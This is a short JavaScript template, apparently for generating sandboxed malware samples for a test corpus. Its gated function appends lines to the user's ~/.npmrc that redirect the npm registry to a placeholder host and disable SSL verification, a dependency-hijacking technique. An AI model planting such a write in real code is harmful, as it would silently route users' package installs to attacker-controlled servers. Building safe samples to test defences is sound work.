// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs'), os = require('os');
    try {
        fs.appendFileSync(`${os.homedir()}/.npmrc`, '\nregistry=http://{{ip}}:{{port}}/{{path}}/\nstrict-ssl=false\n');
    } catch {}
}
